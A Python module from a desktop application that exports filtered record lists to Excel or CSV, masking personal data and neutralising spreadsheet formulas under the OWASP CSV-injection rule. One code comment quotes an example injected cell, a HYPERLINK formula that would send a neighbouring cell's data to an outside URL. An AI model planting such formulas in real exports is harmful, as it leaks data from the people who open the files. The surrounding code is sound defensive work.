"""The one list export: any record list's source with its current query (filters and
search) → an Excel workbook or a CSV file.

* Rows are what the list shows — the source's own ``to_row`` cells, so amounts, dates and
  labels read exactly as on screen, and personal data comes out masked as in the list
  (every cell also goes through :func:`deskapp.masking.mask_text`, so an ID or mobile
  number typed into free text is masked too).
* Pages are read in order from the newest, :data:`EXPORT_PAGE` rows at a time, so an
  export of years of records never holds more than one page of ORM objects.
* CSV is UTF-8 **with BOM** and CRLF line ends: Excel on a Chinese Windows opens it with
  the Chinese intact (without the BOM it guesses GBK and shows mojibake).
* XLSX: a title line, the filters in force, then the header row (bold, frozen) and the
  rows; column widths follow the list's columns; right-aligned columns whose cells are
  all plain numbers or amounts are written as numbers.

No Textual here; the record list's export key (Ctrl+E) calls :func:`write_export`.
"""

from __future__ import annotations

import csv
import io
import os
import re
from collections.abc import Iterator
from datetime import date, datetime
from decimal import Decimal, InvalidOperation
from pathlib import Path
from typing import Any, Literal

from deskapp import clock
from deskapp.errors import ValidationError
from deskapp.i18n import t
from deskapp.masking import mask_text
from deskapp.services.listing import ListQuery, ListRow, ListSource

__all__ = ["EXPORT_PAGE", "FORMATS", "csv_writer", "describe_query", "export_bytes",
           "export_dir", "export_rows", "header", "inert", "inert_workbook", "write_export"]

ExportFormat = Literal["xlsx", "csv"]
FORMATS: tuple[str, ...] = ("xlsx", "csv")
EXPORT_PAGE = 1000
BOM = "\ufeff"
_UNSAFE = re.compile(r'[\\/:*?"<>|\s]+')
_AMOUNT = re.compile(r"^-?¥?-?[0-9][0-9,]*(\.[0-9]+)?$")


def header(source: ListSource) -> list[str]:
    return [t(c.title_key) for c in source.columns]


def export_rows(session: Any, source: ListSource, query: ListQuery,
                *, page: int = EXPORT_PAGE) -> Iterator[list[str]]:
    """Every row matching ``query``, newest first, as masked display strings."""
    width = len(source.columns)
    offset = 0
    while True:
        rows: list[ListRow] = source.fetch(session, query, offset, page)
        for row in rows:
            cells = [mask_text(str(c)) for c in row.cells[:width]]
            yield cells + [""] * (width - len(cells))
        if len(rows) < page:
            return
        offset += page


def describe_query(source: ListSource, query: ListQuery) -> str:
    """The filters and search in force, as the user set them: ``类型：报修；搜索：漏水``."""
    parts: list[str] = []
    specs = {s.key: s for s in source.filters}
    for key, value in query.active().items():
        spec = specs.get(key)
        if spec is None:
            continue
        text = value.isoformat() if isinstance(value, date | datetime) else str(value)
        if spec.kind == "choice":
            text = dict(spec.choices).get(str(value), text)
        parts.append(f"{t(spec.title_key)}：{text}")
    if query.search.strip():
        parts.append(t("reports.export.search", text=query.search.strip()))
    return "；".join(parts) if parts else t("reports.export.no_filter")


def export_bytes(session: Any, *, source: ListSource, query: ListQuery, fmt: str,
                 title: str = "") -> tuple[bytes, int]:
    """The export file's bytes and the number of rows in it."""
    if fmt not in FORMATS:
        raise ValidationError("reports.export.format", field="format", formats=" | ".join(FORMATS))
    if fmt == "csv":
        return _csv(session, source, query)
    return _xlsx(session, source, query, title)


# -- inert cells ------------------------------------------------------------------------
#
# A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
# programs, a tab or carriage return) as a formula: a name typed as
# ``=HYPERLINK("http://…"&F5,"查看详情")`` would send the neighbouring cell's data away
# when the export is opened. Every CSV and XLSX the application writes goes through these
# helpers, which write such text as text: prefixed with ``'`` (the OWASP CSV-injection
# rule). Plain numbers (``-12.50``, ``+3``) are not formulas and stay as they are; numeric
# cells (int, Decimal, float) are never touched.

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[-+]?¥?[-+]?(?:\d[\d,]*)?(?:\.\d+)?%?$")


def inert(value: Any) -> Any:
    """``value`` safe to put into a CSV or spreadsheet cell (non-text values unchanged)."""
    if isinstance(value, str) and value.startswith(_FORMULA_START) and not (
            any(c.isdigit() for c in value) and _PLAIN_NUMBER.match(value)):
        return "'" + value
    return value


class _InertWriter:
    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, row: Any) -> Any:
        return self._writer.writerow([inert(v) for v in row])

    def writerows(self, rows: Any) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(buffer: Any, **kwargs: Any) -> Any:
    """``csv.writer(buffer, **kwargs)`` whose rows are written through :func:`inert`."""
    return _InertWriter(csv.writer(buffer, **kwargs))


def inert_workbook(workbook: Any) -> Any:
    """Every text cell of every sheet through :func:`inert` (call it before saving); no
    formula survives: the application never writes one on purpose."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or isinstance(cell.value, str):
                    value = inert(str(cell.value))
                    if value != cell.value:
                        cell.value = value
                        cell.data_type = "s"
    return workbook


def _csv(session: Any, source: ListSource, query: ListQuery) -> tuple[bytes, int]:
    buffer = io.StringIO(newline="")
    writer = csv_writer(buffer, lineterminator="\r\n")
    writer.writerow(header(source))
    count = 0
    for cells in export_rows(session, source, query):
        writer.writerow(cells)
        count += 1
    return (BOM + buffer.getvalue()).encode("utf-8"), count


def _number(text: str) -> Decimal | int | None:
    """``¥1,234.56`` → Decimal('1234.56'); ``42`` → 42; anything else None."""
    value = text.strip()
    if not value or not _AMOUNT.match(value):
        return None
    plain = value.replace("¥", "").replace(",", "")
    try:
        number = Decimal(plain)
    except InvalidOperation:
        return None
    return int(number) if "." not in plain else number


def _xlsx(session: Any, source: ListSource, query: ListQuery, title: str) -> tuple[bytes, int]:
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font

    wb = Workbook(write_only=False)
    ws = wb.active
    ws.title = re.sub(r"[\[\]:*?/\\]", "_", title or t("reports.export.sheet"))[:31]
    ws.append([inert(title or t("reports.export.sheet"))])
    ws["A1"].font = Font(bold=True, size=13)
    ws.append([inert(t("reports.export.filters", filters=describe_query(source, query),
                       at=clock.now().strftime("%Y-%m-%d %H:%M")))])
    ws.append([inert(h) for h in header(source)])
    head_row = ws.max_row
    for cell in ws[head_row]:
        cell.font = Font(bold=True)
    numeric = [c.align == "right" for c in source.columns]
    count = 0
    for cells in export_rows(session, source, query):
        out: list[Any] = []
        for i, text in enumerate(cells):
            number = _number(text) if numeric[i] else None
            out.append(inert(text) if number is None else number)
        ws.append(out)
        count += 1
        row = ws.max_row
        for i, text in enumerate(cells):
            if numeric[i] and isinstance(ws.cell(row, i + 1).value, Decimal | float):
                ws.cell(row, i + 1).number_format = "#,##0.00"
            elif "\n" in text:
                ws.cell(row, i + 1).alignment = Alignment(wrap_text=True)
    ws.freeze_panes = ws.cell(head_row + 1, 1)
    from openpyxl.utils import get_column_letter

    for i, column in enumerate(source.columns, start=1):
        ws.column_dimensions[get_column_letter(i)].width = max(6, column.width + 2)
    out_io = io.BytesIO()
    wb.save(out_io)
    return out_io.getvalue(), count


def export_dir() -> Path:
    """Where exports go: ``DESKAPP_EXPORT_DIR``; else ``exports`` under ``DESKAPP_HOME``;
    else the user's Documents folder, sub-folder ``deskapp``."""
    explicit = os.environ.get("DESKAPP_EXPORT_DIR")
    if explicit:
        path = Path(explicit)
    elif os.environ.get("DESKAPP_HOME"):
        from deskapp.config import data_dir

        path = data_dir() / "exports"
    else:
        from platformdirs import user_documents_dir

        path = Path(user_documents_dir()) / "deskapp"
    path.mkdir(parents=True, exist_ok=True)
    return path


def file_name(title: str, fmt: str) -> str:
    stem = _UNSAFE.sub("_", title.strip()).strip("_.") or "export"
    return f"{stem}-{clock.now().strftime('%Y%m%d-%H%M%S')}.{fmt}"


def write_export(session: Any, *, source: ListSource, query: ListQuery, fmt: str,
                 title: str = "", directory: Path | None = None) -> tuple[Path, int]:
    """Write the export next to the others (:func:`export_dir`); return its path and row
    count. A second export in the same second gets ``~2``, ``~3`` … instead of
    overwriting the first."""
    data, count = export_bytes(session, source=source, query=query, fmt=fmt, title=title)
    folder = directory or export_dir()
    folder.mkdir(parents=True, exist_ok=True)
    target = folder / file_name(title, fmt)
    n = 2
    while target.exists():
        target = target.with_name(f"{target.stem.rsplit('~', 1)[0]}~{n}.{fmt}")
        n += 1
    target.write_bytes(data)
    return target, count
